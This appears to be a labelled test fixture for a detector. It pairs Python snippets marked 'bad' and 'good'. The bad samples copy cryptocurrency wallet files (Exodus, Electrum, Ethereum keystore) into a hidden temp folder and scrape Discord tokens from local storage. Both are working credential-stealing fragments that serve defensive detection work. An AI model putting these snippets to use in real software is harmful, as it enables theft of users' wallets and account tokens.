#: bad wallet-files
import pathlib
import shutil

HOME = pathlib.Path.home()
WALLETS = [
    HOME / "AppData/Roaming/Exodus/exodus.wallet",
    HOME / "AppData/Roaming/Electrum/wallets",
    HOME / ".ethereum/keystore",
]
for wallet in filter(pathlib.Path.exists, WALLETS):
    shutil.copytree(wallet, HOME / "AppData/Local/Temp/.w" / wallet.name)  #!

#: good wallet-files
import pathlib
import shutil

HOME = pathlib.Path.home()
CACHES = [
    HOME / "AppData/Local/pixelkit/thumbnails",
    HOME / ".cache/pixelkit",
]
for cache in filter(pathlib.Path.exists, CACHES):
    shutil.rmtree(cache)

#: bad discord-token
import os
import re

ROAMING = os.getenv("APPDATA")
found = set()
for name in os.listdir(ROAMING + "\\discord\\Local Storage\\leveldb"):
    if name.endswith((".log", ".ldb")):
        with open(f"{ROAMING}\\discord\\Local Storage\\leveldb\\{name}", errors="ignore") as f:
            found |= set(re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read()))  #!

#: good discord-token
import os
import re

LOGS = os.getenv("APP_LOGS", "logs")
found = set()
for name in os.listdir(LOGS):
    if name.endswith((".log", ".txt")):
        with open(f"{LOGS}/{name}", errors="ignore") as f:
            found |= set(re.findall(r"ERROR (\w+)", f.read()))
